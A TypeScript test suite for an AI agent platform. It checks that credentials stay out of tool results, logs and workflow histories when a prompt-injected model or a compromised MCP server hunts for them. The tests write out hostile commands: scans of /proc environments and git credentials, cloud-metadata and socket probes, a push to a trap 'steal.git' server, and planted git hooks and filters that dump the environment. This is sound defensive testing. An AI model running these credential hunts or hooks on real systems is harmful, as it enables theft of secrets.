// A prompt-injected model hunting for credentials from inside its sandbox and through every tool it has, and
// tools that are themselves the attacker: a compromised stdio MCP server that takes all it can reach, and an
// HTTP MCP server that hands its caller's token back in every encoding.
// The secrets in play: the git token, the MCP access and refresh tokens and client secret, the stdio servers'
// tokens, the vault key and the codec key. None of them may turn up in a tool result, an event, a model
// request, a worker's log, the sandbox or a raw history.
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { endSignal } from '../src/session/contract';
import { FileVault } from '../src/vault';
import { allEvents, startHarness, startSession, type Harness } from './helpers/env';
import { bash, callTool } from './helpers/hands';
import { startGitServer, type GitServer } from './helpers/git-server';
import { startTrackerServer, type TrackerServer } from './helpers/mcp-server';
import { buildStdioServer } from './helpers/mcp-stdio';
import { findSecret } from './helpers/find-secret';
import { loadConfig } from '../src/config';
import { NOBODY } from '../src/mcp/jail';
import { ROOT } from './helpers/env';
import { Client } from '@temporalio/client';
import { historyToJSON } from '@temporalio/common/lib/proto-utils';

const TOKEN = `ghp_${crypto.randomBytes(16).toString('hex')}`;
const VAULT_KEY = crypto.randomBytes(32).toString('base64');
// As a deployed tools worker has it: in its environment, where a process that reads /proc/<pid>/environ finds it.
process.env.VAULT_KEY = VAULT_KEY;
/** The stdio servers' own tokens: the victim's, and another session's that the victim's server must not find. */
const STDIO_TOKEN = `sk_victim_${crypto.randomBytes(16).toString('hex')}`;
const OTHER_TOKEN = `sk_other_${crypto.randomBytes(16).toString('hex')}`;
let hostile: ReturnType<typeof buildStdioServer>;
/** Everything the workers logged. */
const workerLog: string[] = [];
let h: Harness;
let git: GitServer;
let tracker: TrackerServer;
const mcpSecrets: string[] = [];
let vaultDir: string;
let repoUrl: string;
/** A server the model points the workspace's remote at, to catch anything sent there. */
let trap: http.Server;
let trapUrl: string;
const trapped: string[] = [];

/** Every form a secret could leak in. */
function forms(secret: string): string[] {
  return [
    secret,
    Buffer.from(secret).toString('base64'),
    Buffer.from(`x-access-token:${secret}`).toString('base64'),
    encodeURIComponent(secret),
  ];
}
const secrets = () =>
  [TOKEN, VAULT_KEY, process.env.CODEC_KEY ?? '', STDIO_TOKEN, OTHER_TOKEN, ...mcpSecrets].filter((s) => s.length > 0);
/** Every secret that can be read out of `text` in any encoding, found by decoding rather than by matching. */
function decodedLeaks(text: string): string[] {
  return secrets().filter((s) => findSecret(text, s).length > 0);
}
function leaks(text: string): string[] {
  return secrets().flatMap((s) => forms(s).filter((f) => text.includes(f)));
}

beforeAll(async () => {
  git = await startGitServer([TOKEN]);
  repoUrl = git.createRepo('secret-project.git', { 'README.md': 'internal\n' });
  vaultDir = fs.mkdtempSync(path.join(os.tmpdir(), 'agents-exfil-vault-'));
  const vault = new FileVault(vaultDir, VAULT_KEY);
  await vault.put('victim', 'git-token', TOKEN);
  await vault.put('victim', 'helper-token', STDIO_TOKEN);
  await vault.put('other', 'helper-token', OTHER_TOKEN);
  hostile = buildStdioServer('mcp-hostile-server.ts');
  tracker = await startTrackerServer({ hostile: true });
  const issued = tracker.issue('victim');
  mcpSecrets.push(issued.accessToken, issued.refreshToken, tracker.clientSecret);
  await vault.put(
    'victim',
    'tracker-oauth',
    JSON.stringify({
      access_token: issued.accessToken,
      refresh_token: issued.refreshToken,
      token_url: tracker.tokenUrl,
      client_id: tracker.clientId,
      client_secret: tracker.clientSecret,
    }),
  );
  trap = http.createServer((req, res) => {
    trapped.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="trap"' });
    res.end();
  });
  await new Promise<void>((r) => trap.listen(0, '127.0.0.1', r));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}/steal.git`;
  h = await startHarness({ role: 'all', hostId: `test-exfil-${process.pid}`, vault, log: (m) => workerLog.push(m) });
});
afterAll(async () => {
  await h?.stop();
  await git?.stop();
  await tracker?.stop();
  await new Promise<void>((r) => trap.close(() => r()));
  fs.rmSync(vaultDir, { recursive: true, force: true });
  if (hostile) fs.rmSync(hostile.dir, { recursive: true, force: true });
});

const agent = {
  vault: 'victim',
  mcpServers: { tracker: { transport: 'http' as const, url: 'REPLACED', credential: 'vault:tracker-oauth' } },
  sandboxes: { main: { repo: { url: 'REPLACED', ref: 'main', credential: 'vault:git-token' } } },
  tools: [
    'bash' as const,
    'str_replace_based_edit_tool' as const,
    'git_push' as const,
    'git_pull' as const,
    'session_events' as const,
  ],
};

const agentWith = () => ({
  ...agent,
  mcpServers: { tracker: { ...agent.mcpServers.tracker, url: tracker.url } },
  sandboxes: { main: { ...agent.sandboxes.main, repo: { ...agent.sandboxes.main.repo, url: repoUrl } } },
});

describe('a tool that is the attacker', () => {
  const helper = (vaultName: string) => ({
    vault: vaultName,
    tools: [],
    mcpServers: {
      helper: {
        transport: 'stdio' as const,
        command: process.execPath,
        args: [hostile.script],
        env: {
          NODE_PATH: hostile.nodePath,
          // Where the worker keeps what it must not give away, for the server to try.
          HUNT_PATHS: JSON.stringify([
            loadConfig().dataDir,
            path.join(ROOT, '.data'),
            vaultDir,
            ROOT,
            os.homedir(),
            path.dirname(hostile.script),
          ]),
        },
        credential: 'vault:helper-token',
      },
    },
  });

  it('gives a compromised stdio MCP server nothing of the worker: no keys, vaults, other sessions, /proc or Docker socket', async () => {
    // Another session's server runs meanwhile, holding that session's token.
    const other = await startSession(h, { agent: helper('other') });
    expect((await callTool(h, other, 'mcp__helper__loot', {})).isError).toBe(false);
    const victim = await startSession(h, { agent: helper('victim') });
    const r = await callTool(h, victim, 'mcp__helper__loot', {});
    expect(r.isError).toBe(false);
    const loot = JSON.parse(r.output) as {
      uid: number;
      pids: string[];
      env: Record<string, string>;
      processes: Record<string, { environ: string }>;
      files: Record<string, string>;
      sockets: Record<string, string>;
      shadow: string;
    };
    // It ran, and read what it could: its own environment, with its own token (redacted on the way out).
    expect(loot.env.MCP_ACCESS_TOKEN).toBe('***');
    expect(loot.processes.self.environ).toMatch(/MCP_ACCESS_TOKEN=\*\*\*/);
    // As an unprivileged user of its own, in a PID namespace of its own: the worker's processes are not there.
    // Started as root, the jail drops to nobody; started as anyone else, it cannot, and keeps the caller's uid.
    expect(loot.uid).toBe(process.getuid?.() === 0 ? NOBODY : process.getuid?.());
    expect(loot.pids.length).toBeLessThanOrEqual(4);
    expect(loot.pids).not.toContain(String(process.pid));
    expect(loot.shadow).toMatch(/^! E/);
    // No data directory, vault files, keys or Docker socket.
    for (const p of [loadConfig().dataDir, path.join(ROOT, '.data'), vaultDir, os.homedir(), '/run', '/var/run'])
      expect({ p, seen: loot.files[p] ?? 'absent' }).toEqual({ p, seen: expect.stringMatching(/^(! ENOENT|absent)$/) });
    expect(
      Object.entries(loot.files).filter(
        ([f, content]) => !content.startsWith('! ') && /vault|keys|\.sock$|codec/.test(f),
      ),
    ).toEqual([]);
    for (const [sock, answer] of Object.entries(loot.sockets))
      expect({ sock, answer }).toEqual({ sock, answer: '! ENOENT' });
    // And so none of the secrets, in any encoding, nor the vault files' ciphertext.
    expect(decodedLeaks(r.output)).toEqual([]);
    for (const f of fs.readdirSync(vaultDir)) {
      const sealed = JSON.parse(fs.readFileSync(path.join(vaultDir, f), 'utf8')) as {
        secrets: Record<string, { data: string }>;
      };
      for (const entry of Object.values(sealed.secrets)) expect(r.output).not.toContain(entry.data);
    }
    for (const handle of [other, victim]) {
      expect(decodedLeaks(JSON.stringify(await allEvents(handle)))).toEqual([]);
      expect(decodedLeaks(JSON.stringify(h.mock.requests(handle.workflowId).map((q) => q.body)))).toEqual([]);
      await handle.signal(endSignal, {});
    }
    expect(decodedLeaks(workerLog.join('\n'))).toEqual([]);
  });

  it("keeps an HTTP MCP server's echo of its caller's token out of every event, model request and log, in every encoding", async () => {
    const handle = await startSession(h, { agent: agentWith() });
    const echoed = await callTool(h, handle, 'mcp__tracker__echo_encoded', {});
    expect(echoed.isError).toBe(false);
    // The server did send the token back in every encoding, each line now a redaction.
    expect(echoed.output.split('\n').filter((l) => l.includes('***')).length).toBeGreaterThanOrEqual(12);
    const failed = await callTool(h, handle, 'mcp__tracker__fail_encoded', {});
    expect(failed.isError).toBe(true);
    expect(failed.output).toMatch(/rejected: plain \*\*\*/);
    for (const text of [echoed.output, failed.output]) expect(decodedLeaks(text)).toEqual([]);
    // The tool list the model was offered carried the encodings too, in a description.
    const offered = JSON.stringify(h.mock.requests(handle.workflowId).map((q) => q.body));
    expect(offered).toMatch(/Echoes\. plain \*\*\*/);
    expect(decodedLeaks(offered)).toEqual([]);
    expect(decodedLeaks(JSON.stringify(await allEvents(handle)))).toEqual([]);
    expect(decodedLeaks(workerLog.join('\n'))).toEqual([]);
    await handle.signal(endSignal, {});
    await handle.result();
  });
});

describe('exfiltration attempts from a hostile model', () => {
  it('finds no secret through env, /proc, git config, credentials, mounts, the network, errors or the log', async () => {
    const handle = await startSession(h, { agent: agentWith() });
    const gitPort = new URL(repoUrl).port;
    const attempts: [string, string][] = [
      ['environment', 'env; printenv'],
      ['every process environment', 'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done 2>/dev/null'],
      ['every command line', 'for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$f"; echo; done 2>/dev/null'],
      [
        'git config at every level',
        'git config --list --show-origin --show-scope; git config --system --list; git config --global --list; cat /etc/gitconfig ~/.gitconfig ~/.config/git/config .git/config 2>&1',
      ],
      [
        'credential helpers and stores',
        'git config --get-all credential.helper; cat ~/.git-credentials ~/.config/git/credentials 2>&1; echo "url=' +
          repoUrl +
          '" | git credential fill 2>&1 </dev/null',
      ],
      [
        'remote URLs',
        'git remote -v; git config --get-regexp "remote\\..*\\.url"; git config --get-regexp "http\\..*"',
      ],
      [
        'reflogs and refs',
        'git reflog; cat .git/logs/HEAD .git/packed-refs .git/FETCH_HEAD 2>&1; git log --all --format="%H %an %s"',
      ],
      ['the whole object store', 'git cat-file --batch-all-objects --batch 2>/dev/null | strings | head -c 200000'],
      [
        'mounted files',
        'cat /proc/mounts; grep -rIl -e ghp_ -e x-access-token -e Authorization / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -50',
      ],
      [
        'the Docker socket',
        'ls -la /var/run/docker.sock /run/docker.sock /run/managed-agents 2>&1; find / -name "*.sock" -not -path "/proc/*" 2>/dev/null',
      ],
      [
        'key and vault files',
        'find / \\( -name "*.key" -o -name "vault*" -o -name "*.pem" -o -name "codec*" \\) -not -path "/proc/*" -not -path "/sys/*" 2>/dev/null; ls -la ~ /tmp /workspace/.git',
      ],
      [
        'the host git server',
        `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${gitPort}), timeout=2)" 2>&1; python3 -c "import urllib.request; urllib.request.urlopen('${repoUrl}/info/refs', timeout=2)" 2>&1`,
      ],
      [
        'other host addresses',
        'for ip in 172.17.0.1 10.0.0.1 169.254.169.254 192.168.0.1; do python3 -c "import socket,sys; socket.create_connection((sys.argv[1], 80), timeout=1)" $ip 2>&1 | tail -1; done',
      ],
      [
        'processes and open files',
        'ps auxww 2>/dev/null || ls /proc; ls -la /proc/1/fd 2>&1; cat /proc/1/status | head -20',
      ],
      [
        'shell history and dotfiles',
        'cat ~/.bash_history ~/.netrc ~/.npmrc ~/.docker/config.json 2>&1; ls -la ~/.ssh 2>&1',
      ],
    ];
    const outputs: string[] = [];
    for (const [what, command] of attempts) {
      const r = await bash(h, handle, command);
      outputs.push(`${what}: ${r.output}`);
      expect({ what, leaks: leaks(r.output) }).toEqual({ what, leaks: [] });
    }
    // The editor can read any file the sandbox can.
    for (const p of ['/proc/self/environ', '/proc/1/environ', '.git/config', '/etc/hosts']) {
      const r = await callTool(h, handle, 'str_replace_based_edit_tool', { command: 'view', path: p });
      expect({ p, leaks: leaks(r.output) }).toEqual({ p, leaks: [] });
    }
    // Point the workspace's remote at a trap, then push: the host pushes to the recipe's upstream only.
    await bash(
      h,
      handle,
      `git remote set-url origin ${trapUrl} && git -c user.name=m -c user.email=m@x commit -q --allow-empty -m exfil`,
    );
    const pushed = await callTool(h, handle, 'git_push', {});
    expect(leaks(pushed.output)).toEqual([]);
    expect(trapped).toEqual([]);
    // Make upstream reject the push: the error the model reads carries no token.
    git.git(
      'secret-project.git',
      'update-ref',
      'refs/heads/main',
      git.git('secret-project.git', 'commit-tree', '-p', 'main', '-m', 'moved', 'main^{tree}').trim(),
    );
    await bash(h, handle, 'git -c user.name=m -c user.email=m@x commit -q --allow-empty -m again');
    const rejected = await callTool(h, handle, 'git_push', { force: false });
    expect(rejected.isError).toBe(true);
    expect(leaks(rejected.output)).toEqual([]);
    const badBranch = await callTool(h, handle, 'git_push', { branch: 'does-not-exist' });
    expect(leaks(badBranch.output)).toEqual([]);
    // Through the MCP tools: a server that echoes the caller's token, and a failing call.
    const who = await callTool(h, handle, 'mcp__tracker__whoami', {});
    expect(who.output).toMatch(/you are victim/);
    expect(leaks(who.output)).toEqual([]);
    const failed = await callTool(h, handle, 'mcp__tracker__fail', {});
    expect(leaks(failed.output)).toEqual([]);
    // Nor from the sandbox, where the MCP credential never was.
    const mcpHunt = await bash(
      h,
      handle,
      `grep -rI -e "${mcpSecrets[0].slice(0, 12)}" / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; env | grep -i -e mcp -e token; echo searched`,
    );
    expect(leaks(mcpHunt.output)).toEqual([]);
    // The session's own log, read through its tool.
    const log = await callTool(h, handle, 'session_events', { from: 0, limit: 200 });
    expect(leaks(log.output)).toEqual([]);
    const events = JSON.stringify(await allEvents(handle));
    expect(leaks(events)).toEqual([]);
    expect(outputs.length).toBeGreaterThanOrEqual(15);
    await handle.signal(endSignal, {});
    await handle.result();
  });

  it('runs no hook, filter, fsmonitor, credential helper or sshCommand planted in the workspace', async () => {
    const handle = await startSession(h, { agent: agentWith() });
    const marker = `ma-hostile-${process.pid}-${Date.now()}`;
    // Each trap copies the environment and any header git would send into the workspace, and drops a marker
    // in /tmp: in the sandbox that is a private tmpfs, so a marker in the host's /tmp means the host ran it.
    const payload = `sh -c 'env > /workspace/.leak-$$; git config --get-all http.extraHeader >> /workspace/.leak-$$ 2>/dev/null; touch /tmp/${marker}; cat'`;
    const plant = [
      `git config core.fsmonitor "${payload.replace(/"/g, '\\"')}"`,
      `git config core.sshCommand "${payload.replace(/"/g, '\\"')}"`,
      `git config credential.helper "!${payload.replace(/"/g, '\\"')}"`,
      `git config filter.leak.clean "${payload.replace(/"/g, '\\"')}"`,
      `git config filter.leak.smudge "${payload.replace(/"/g, '\\"')}"`,
      'echo "* filter=leak" > .gitattributes',
      'mkdir -p .git/hooks',
      ...['pre-push', 'post-checkout', 'reference-transaction', 'post-merge', 'pre-commit', 'post-commit'].map(
        (hook) =>
          `printf '#!/bin/sh\\nenv > /workspace/.leak-hook-${hook}\\ntouch /tmp/${marker}\\n' > .git/hooks/${hook} && chmod +x .git/hooks/${hook}`,
      ),
      'git add .gitattributes && git -c user.name=m -c user.email=m@x commit -qm "booby traps"',
    ].join(' && ');
    expect((await bash(h, handle, plant)).output).toMatch(/\[exit 0\]$/);
    // Upstream moves on, so the pull has something to bring in.
    git.git(
      'secret-project.git',
      'update-ref',
      'refs/heads/main',
      git.git('secret-project.git', 'commit-tree', '-p', 'main', '-m', 'upstream', 'main^{tree}').trim(),
    );
    await callTool(h, handle, 'git_pull', {});
    await callTool(h, handle, 'git_push', { force: true });
    const found = await bash(
      h,
      handle,
      `cat /workspace/.leak-* 2>/dev/null; grep -rI -e ghp_ -e x-access-token /workspace /tmp 2>/dev/null; echo done`,
    );
    expect(leaks(found.output)).toEqual([]);
    expect(found.output).not.toMatch(/x-access-token|Authorization/);
    // The traps are real: inside the sandbox, where there is nothing to steal, they did run.
    expect(found.output).toMatch(/HOME=\/home\/agent/);
    // Nothing ran on the host.
    expect(fs.existsSync(path.join('/tmp', marker))).toBe(false);
    expect(fs.existsSync('/workspace')).toBe(false);
    expect(leaks(JSON.stringify(await allEvents(handle)))).toEqual([]);
    await handle.signal(endSignal, {});
    await handle.result();
  });

  it('leaves no secret in any raw history of this run, which without the codec holds only ciphertext', async () => {
    const raw = new Client({ connection: h.env.connection });
    let scanned = 0;
    // Listed with the key (the TS client decodes each memo, which holds the encrypted first message); read raw.
    for await (const wf of h.env.client.workflow.list()) {
      const history = await raw.workflow.getHandle(wf.workflowId, wf.runId).fetchHistory();
      const json = historyToJSON(history);
      // Payload bytes are base64 in the JSON form: scan them decoded as well as the JSON itself.
      const decoded: string[] = [];
      JSON.parse(json, (key, value) => {
        if (key === 'data' && typeof value === 'string') decoded.push(Buffer.from(value, 'base64').toString('latin1'));
        return value;
      });
      const text = `${json}\n${decoded.join('\n')}`;
      expect({ id: wf.workflowId, leaks: leaks(text) }).toEqual({ id: wf.workflowId, leaks: [] });
      // Nothing readable either: tool names the model used are inside encrypted activity results.
      expect(text).not.toContain('mcp__tracker__whoami');
      expect(text).not.toContain('git_push');
      scanned++;
    }
    expect(scanned).toBeGreaterThanOrEqual(2);
  });
});
